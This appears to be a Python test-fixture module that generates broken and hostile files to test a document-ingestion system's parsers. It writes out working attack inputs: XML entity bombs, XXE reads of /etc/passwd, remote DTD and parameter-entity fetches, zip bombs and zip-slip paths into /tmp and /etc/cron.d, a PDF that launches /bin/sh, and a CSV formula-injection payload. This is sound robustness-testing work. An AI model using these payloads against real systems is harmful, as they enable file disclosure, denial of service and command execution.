"""Broken and hostile files, made by program: what a desk may be sent by accident or on purpose.

Takes nothing; gives files by name. Whole files of every format, cut, flipped and glued in ways that are the same on every
run, and files built to exhaust, to escape or to call out. ``{port}`` in an address is filled in with the port of a
server of the test, which must never be called.
"""

from __future__ import annotations

import io
import json
import random
import zipfile
import zlib
from collections.abc import Callable, Iterator
from email.message import EmailMessage
from functools import cache

import rendered_pages
import rendered_papers
import rendered_records
import renderings
from renderings import stories, zipped

ENGLISH = "Two walkers died when a footbridge gave way on Monday, the fire brigade said. The mayor asked people to stay away."
REMOTE = "http://127.0.0.1:{port}/x"


@cache
def whole() -> dict[str, bytes]:
    """One good file of every format."""
    story = stories()[0]
    return {
        "page.html": rendered_pages.html_semantic(story),
        "old.html": rendered_pages.html_tables(story),
        "packed.mhtml": rendered_pages.mhtml(story),
        "print.pdf": rendered_papers.pdf_two_columns(story),
        "word.docx": rendered_papers.docx(story),
        "open.odt": rendered_papers.odt(story),
        "draft.md": rendered_papers.markdown(story),
        "mail.eml": rendered_pages.eml(story),
        "feed.rss": rendered_pages.rss(story),
        "feed.atom": rendered_pages.atom(story),
        "item.json": rendered_records.ninjs(story),
        "lines.jsonl": rendered_records.json_lines(),
        "sheet.csv": rendered_records.sheet(),
        "table.parquet": rendered_records.parquet(),
        "bundle.zip": rendered_records.mixed_zip(),
        "plain.txt": renderings.as_text(story).encode(),
    }


def flipped(data: bytes, chance: random.Random, count: int) -> bytes:
    changed = bytearray(data)
    for _ in range(count):
        changed[chance.randrange(len(changed))] = chance.randrange(256)
    return bytes(changed)


def glued(data: bytes, chance: random.Random) -> bytes:
    """A stretch of the file cut out and put in elsewhere, several times over."""
    start, end = sorted(chance.randrange(len(data)) for _ in range(2))
    at = chance.randrange(len(data))
    return data[:at] + data[start:end] * chance.randrange(1, 4) + data[at:]


def swollen(data: bytes, chance: random.Random) -> bytes:
    """A digit, and with it often a length, an offset or a count, made nine."""
    places = [at for at, byte in enumerate(data) if 0x30 <= byte <= 0x38]
    changed = bytearray(data)
    for at in chance.sample(places, min(len(places), 12)):
        changed[at] = 0x39
    return bytes(changed)


MUTATIONS: dict[str, Callable[[bytes, random.Random], bytes]] = {
    "cut-10": lambda data, chance: data[: len(data) // 10],
    "cut-50": lambda data, chance: data[: len(data) // 2],
    "cut-95": lambda data, chance: data[: len(data) * 95 // 100],
    "beheaded": lambda data, chance: data[len(data) // 20 :],
    "flipped-1": lambda data, chance: flipped(data, chance, 1),
    "flipped-20": lambda data, chance: flipped(data, chance, 20),
    "flipped-500": lambda data, chance: flipped(data, chance, 500),
    "glued": glued,
    "swollen": swollen,
    "holed": lambda data, chance: data[: len(data) // 3] + b"\x00" * 4000 + data[len(data) // 3 :],
}


def broken() -> dict[str, bytes]:
    """Every good file in every way of breaking it."""
    return {
        f"{way}-{name}": breaks(data, random.Random(f"{way} {name}")) for name, data in whole().items() for way, breaks in MUTATIONS.items()
    }


def built(port: int) -> dict[str, bytes]:
    """Files made to do harm."""
    return {name: data.replace(b"{port}", str(port).encode()) for name, data in _built()}


def _built() -> Iterator[tuple[str, bytes]]:
    yield from _pages()
    yield from _xml()
    yield from _zips()
    yield from _pdfs()
    yield from _messages()
    yield from _tables()
    yield "bidi.txt", ("\u202e\u2066" * 2000 + ENGLISH).encode()
    yield "escapes.txt", ("\x1b]0;evil\x07" * 50 + ENGLISH).encode()
    yield "one-line.txt", (ENGLISH + " ").encode() * 20_000
    yield "no-letters.txt", b"1234567890 " * 40_000
    yield "half-utf16.txt", ENGLISH.encode("utf-16")[:-1]
    yield "overlong.txt", ENGLISH.encode() + b"\xc0\xaf\xf8\x88\x80\x80\x80"
    yield "deep.md", b"> " * 3000 + ENGLISH.encode()
    yield "brackets.md", b"[" * 50_000 + ENGLISH.encode()
    yield "stars.md", b"# x\n\n" + b"*a **b " * 20_000
    yield "front.md", b"---\n" + b"a: b\n" * 50_000 + b"---\n" + ENGLISH.encode()


def _pages() -> Iterator[tuple[str, bytes]]:
    def page(inner: str, head: str = "") -> bytes:
        body = f"<article><h1>Bridge</h1><p>{ENGLISH}</p>{inner}</article>"
        return f"<!DOCTYPE html><html><head>{head}</head><body>{body}</body></html>".encode()

    yield (
        "calls.html",
        page(
            "".join(f'<{tag} src="{REMOTE}" data="{REMOTE}"></{tag}>' for tag in ("img", "iframe", "script", "video", "object")),
            f'<base href="{REMOTE}/"><link rel="stylesheet" href="{REMOTE}"><style>@import "{REMOTE}"</style>'
            f'<meta http-equiv="refresh" content="0;url={REMOTE}">',
        ),
    )
    yield "doctype.html", f'<!DOCTYPE html SYSTEM "{REMOTE}"><html><body><p>{ENGLISH}</p></body></html>'.encode()
    yield (
        "entities.html",
        b'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]><html><body><p>&x;</p></body></html>',
    )
    yield "deep.html", page("<div>" * 100_000)
    yield "tags.html", page("<b>" * 200_000)
    yield "attributes.html", page("<p " + " ".join(f"a{number}=1" for number in range(100_000)) + ">x</p>")
    yield "attribute.html", page('<p class="' + "ad " * 500_000 + '">x</p>')
    yield "comments.html", page("<!--" * 100_000)
    yield "unclosed.html", page("<p><a href='" * 50_000)
    yield "paragraphs.html", page(f"<p>{ENGLISH}</p>" * 20_000)
    yield "spans.html", page("<span class='byline date time ad'>x</span>" * 30_000)
    yield "cells.html", page("<table>" + ("<tr>" + "<td>9</td>" * 200 + "</tr>") * 300 + "</table>")
    yield "lists.html", page("<ul><li>" * 3000)
    yield "figures.html", page("<figure><figcaption>x</figcaption>" * 5000)
    yield "scripts.html", page("<script>" + "</scr" * 200_000 + "</script>")
    yield "json.html", page("", '<script type="application/ld+json">' + '{"@graph":[' * 50_000 + "</script>")
    yield (
        "graph.html",
        page(
            "",
            '<script type="application/ld+json">'
            + json.dumps([{"@type": "NewsArticle", "author": {"name": "x" * 9999}}] * 90)
            + "</script>",
        ),
    )
    yield "meta.html", page("", '<meta name="date" content="9999-99-99T99:99:99+99:99">' * 20_000)
    yield "latin.html", page("\ufffd" * 5000).replace(b"\xef\xbf\xbd", b"\xff")
    yield "charset.html", page("", '<meta charset="utf-7">') + b"+ADw-script+AD4-"
    yield "nul.html", page("\x00" * 5000)
    yield "private.html", page("\ue000\ue001" * 5000)


def _xml() -> Iterator[tuple[str, bytes]]:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    yield "laughs.xml", f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY l0 "ha">{laughs}]><rss><channel>&l9;</channel></rss>'.encode()
    yield "quadratic.xml", f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "{"a" * 100_000}">]><rss>{"&a;" * 20_000}</rss>'.encode()
    yield "xxe.xml", b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><channel>&x;</channel></rss>'
    yield (
        "remote.xml",
        f'<?xml version="1.0"?><!DOCTYPE rss SYSTEM "{REMOTE}"><rss><channel><item><title>&x;</title></item></channel></rss>'.encode(),
    )
    yield "parameter.xml", f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % p SYSTEM "{REMOTE}">%p;]><rss/>'.encode()
    yield (
        "style.xml",
        f'<?xml version="1.0"?><?xml-stylesheet href="{REMOTE}"?>'
        f"<rss><channel><item><description>{ENGLISH}</description></item></channel></rss>".encode(),
    )
    yield "deep.xml", b'<?xml version="1.0"?><rss>' + b"<a>" * 200_000
    yield "wide.xml", b'<?xml version="1.0"?><rss>' + b"<a/>" * 600_000 + b"</rss>"
    yield (
        "include.xml",
        f'<feed xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/>'
        f'<entry><content src="{REMOTE}"/></entry></feed>'.encode(),
    )
    yield "entries.xml", b"<rss><channel>" + b"<item><title>x</title></item>" * 12_000 + b"</channel></rss>"
    evils = {
        "laughs": f'<!DOCTYPE d [<!ENTITY l0 "ha">{laughs}]><d>&l9;</d>',
        "xxe": '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>',
        "deep": "<a>" * 200_000,
        "wide": "<a/>" * 600_000,
    }
    for name, part in (("word.docx", "word/document.xml"), ("open.odt", "content.xml")):
        for evil, made in evils.items():
            yield f"{evil}-{name}", replaced(whole()[name], part, f'<?xml version="1.0"?>{made}'.encode())
    schema = "http://schemas.openxmlformats.org"
    rels = (
        f'<Relationships xmlns="{schema}/package/2006/relationships"><Relationship Id="r" TargetMode="External" '
        f'Type="{schema}/officeDocument/2006/relationships/attachedTemplate" Target="{REMOTE}"/></Relationships>'
    )
    yield "template.docx", replaced(whole()["word.docx"], "word/_rels/settings.xml.rels", rels.encode())


def replaced(data: bytes, name: str, content: bytes) -> bytes:
    archive = zipfile.ZipFile(io.BytesIO(data))
    members = {entry: archive.read(entry) for entry in archive.namelist()}
    return zipped({**members, name: content})


def _zips() -> Iterator[tuple[str, bytes]]:
    yield "bomb.zip", zipped({f"{number}.txt": b" " * 49_000_000 for number in range(6)})
    yield "large.zip", zipped({"a.txt": b"a " * 24_000_000})
    inner = zipped({"a.txt": ENGLISH.encode()})
    for _ in range(8):
        inner = zipped({"a.zip": inner})
    yield "nested.zip", inner
    yield "many.zip", zipped({f"{number}.txt": b"x" for number in range(10_001)})
    yield "escape.zip", zipped({"../../../../tmp/escaped.txt": ENGLISH.encode(), "/etc/cron.d/escaped": ENGLISH.encode() + b" So."})
    yield (
        "names.zip",
        zipped({"\u202e\x1b[2J.txt": ENGLISH.encode(), "a" * 5000 + ".txt": ENGLISH.encode() + b" So.", "CON": b"x", "a:b.txt": b"x"}),
    )
    same = io.BytesIO()
    with zipfile.ZipFile(same, "w") as archive:
        for name in ("a.txt", "b.txt"):
            archive.writestr(zipfile.ZipInfo(name), ENGLISH.encode() + name.encode())
    yield "same-name.zip", same.getvalue().replace(b"b.txt", b"a.txt")
    lying = bytearray(zipped({"a.txt": b"a" * 40_000_000}))
    at = lying.index(b"PK\x01\x02") + 24
    lying[at : at + 4] = (100).to_bytes(4, "little")
    yield "lying.zip", bytes(lying)
    locked = bytearray(zipped({"a.txt": ENGLISH.encode()}))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        locked[locked.index(mark) + offset] |= 1
    yield "locked.zip", bytes(locked)
    yield "method.zip", zipped({"a.txt": ENGLISH.encode()}).replace(b"\x08\x00", b"\x63\x00")
    yield (
        "word-bomb.docx",
        zipped({"[Content_Types].xml": b"x", "word/document.xml": b"x", **{f"{n}.xml": b" " * 45_000_000 for n in range(6)}}),
    )
    yield "empty.docx", zipped({"[Content_Types].xml": b"", "word/document.xml": b""})
    yield "sheet.xlsx", zipped({"[Content_Types].xml": b"x", "xl/workbook.xml": b"x"})


def _pdf(objects: list[bytes]) -> bytes:
    out = b"%PDF-1.7\n"
    offsets = []
    for number, content in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(b"%010d 00000 n \n" % at for at in offsets)
    return out + table + b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, len(out))


def _stream(data: bytes, more: bytes = b"") -> bytes:
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(data), more, data)


def _pdfs() -> Iterator[tuple[str, bytes]]:
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
    leaf = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>"
    said = b"BT /F 12 Tf 50 700 Td (" + ENGLISH.encode() + b") Tj ET"
    tree = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
    yield "loop.pdf", _pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2/Parent 2 0 R>>"])
    yield "count.pdf", _pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 2000000000>>", leaf, _stream(said), font])
    actions = b"/OpenAction<</S/URI/URI(" + REMOTE.encode() + b")>>/AA<</O<</S/Launch/F(/bin/sh)>>>>"
    yield "calls.pdf", _pdf([b"<</Type/Catalog/Pages 2 0 R" + actions + b">>", tree, leaf, _stream(said), font])
    script = b"/OpenAction<</S/JavaScript/JS(while(true){})>>"
    yield "script.pdf", _pdf([b"<</Type/Catalog/Pages 2 0 R" + script + b">>", tree, leaf, _stream(said), font])
    bomb = zlib.compress(zlib.compress(b"\x00" * 200_000_000, 9), 9)
    yield "bomb.pdf", _pdf([b"<</Type/Catalog/Pages 2 0 R>>", tree, leaf, _stream(bomb, b"/Filter[/FlateDecode/FlateDecode]"), font])
    many = zlib.compress(b"BT /F 1 Tf " + b"1 0 0 1 50 700 Tm (a b c d e f g h) Tj " * 60_000 + b"ET")
    yield "letters.pdf", _pdf([b"<</Type/Catalog/Pages 2 0 R>>", tree, leaf, _stream(many, b"/Filter/FlateDecode"), font])
    states = zlib.compress(b"q " * 3_000_000)
    yield "states.pdf", _pdf([b"<</Type/Catalog/Pages 2 0 R>>", tree, leaf, _stream(states, b"/Filter/FlateDecode"), font])
    yield (
        "itself.pdf",
        _pdf(
            [
                b"<</Type/Catalog/Pages 2 0 R>>",
                tree,
                leaf.replace(b"/Resources", b"/XObject<</X 3 0 R>>/Resources"),
                _stream(b"/X Do " * 999),
                font,
            ]
        ),
    )
    yield "brackets.pdf", _pdf([b"<</Type/Catalog/Pages 2 0 R>>", tree, b"[" * 100_000, _stream(said), font])
    yield "giant.pdf", _pdf([b"<</Type/Catalog/Pages 2 0 R>>", tree, leaf.replace(b"600 800", b"9e30 9e30"), _stream(said), font])
    yield "garbage.pdf", b"%PDF-1.7\n" + random.Random(9).randbytes(200_000)
    scattered = b"BT /F 9 Tf " + b"".join(b"1 0 0 1 %d %d Tm (the %d) Tj " % (n * 37 % 590, n * 91 % 790, n) for n in range(4000)) + b"ET"
    yield "scattered.pdf", _pdf([b"<</Type/Catalog/Pages 2 0 R>>", tree, leaf, _stream(scattered), font])


def _messages() -> Iterator[tuple[str, bytes]]:
    yield "header.eml", b"MIME-Version: 1.0\nSubject: " + b"x" * 2_000_000 + b"\n\n" + ENGLISH.encode()
    yield "headers.eml", b"MIME-Version: 1.0\n" + b"Received: from a by b\n" * 100_000 + b"\n" + ENGLISH.encode()
    yield "encoded.eml", b"MIME-Version: 1.0\nSubject: " + b"=?utf-8?q?a?= " * 50_000 + b"\n\n" + ENGLISH.encode()
    deep = b"MIME-Version: 1.0\n" + b"".join(b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (n, n) for n in range(5000))
    yield "deep.eml", deep + ENGLISH.encode()
    yield "endless.eml", b"MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n" + b"--b\n\nx\n" * 100_000
    message = EmailMessage()
    message["From"] = message["To"] = "a@valleypost.example"
    message["Date"] = "99 Foo 99999 99:99:99 +9999"
    message["Subject"] = "x"
    message.set_content(ENGLISH)
    for number in range(3):
        message.add_attachment(
            zipped({"a.zip": zipped({"a.zip": zipped({"a.txt": ENGLISH.encode()})})}), "application", "zip", filename=f"/etc/{number}.zip"
        )
    yield "attached.eml", message.as_bytes()
    charset = b'MIME-Version: 1.0\nContent-Type: text/plain; charset="unicode_escape"\n\n' + ENGLISH.encode() + b"\\x00"
    yield "charset.eml", charset
    yield "quotes.eml", b"MIME-Version: 1.0\nFrom: " + b'"' * 100_000 + b"\n\n" + ENGLISH.encode()
    yield "forwarded.eml", b"MIME-Version: 1.0\n\n" + b"-----\nFrom: a\nDate: b\n" * 20_000 + ENGLISH.encode()
    linked = (
        "From: <Saved by Blink>\nMIME-Version: 1.0\nContent-Type: text/html\nSnapshot-Content-Location: file:///etc/passwd\n\n"
        f'<html><body><img src="{REMOTE}"><p>{ENGLISH}</p><p>{ENGLISH} So.</p></body></html>'
    )
    yield "linked.mhtml", linked.encode()


def _tables() -> Iterator[tuple[str, bytes]]:
    yield "columns.csv", b"text," + b",".join(b"c%d" % n for n in range(200_000)) + b"\n" + ENGLISH.encode() + b"\n"
    yield "quote.csv", b'text\n"' + ENGLISH.encode() * 20_000
    yield "rows.csv", b"text\n" + b"x\n" * 100_000
    yield "cell.csv", b"text\n" + b"a " * 3_000_000 + b"\n"
    yield "nul.csv", b"text\n" + ENGLISH.encode() + b"\x00\n"
    yield "formula.csv", b'text,title\n"' + ENGLISH.encode() + b"\",=cmd|' /C calc'!A0\n"
    yield "deep.json", b'{"a":' * 200_000
    yield "lists.json", b"[{" + b'"a":[' * 100_000
    yield "number.json", b'{"text": ' + b"9" * 1_000_000 + b"}"
    yield "lines.jsonl", b'{"text": 1}\n' * 20_000
    yield "keys.json", b"{" + b",".join(b'"k%d": 1' % n for n in range(200_000)) + b"}"
    yield "surrogate.json", b'{"text": "' + ENGLISH.encode() + b' \\ud800", "id": "\\udfff"}'
    yield "types.json", json.dumps([{"text": [], "id": {}, "title": [[["x"] * 9] * 9] * 9, "published": -1e400}]).encode()
    yield (
        "item.json",
        json.dumps(
            {"uri": {"a": 1}, "versioncreated": [], "headlines": 3, "bodies": [{"value": 3}], "body_text": ENGLISH, "by": {}}
        ).encode(),
    )
    yield "magic.parquet", b"PAR1" * 1000
    good = whole()["table.parquet"]
    yield "length.parquet", good[:-8] + (2**31 - 1).to_bytes(4, "little") + b"PAR1"
    yield "footer.parquet", good[:-8] + (len(good) - 12).to_bytes(4, "little") + b"PAR1"
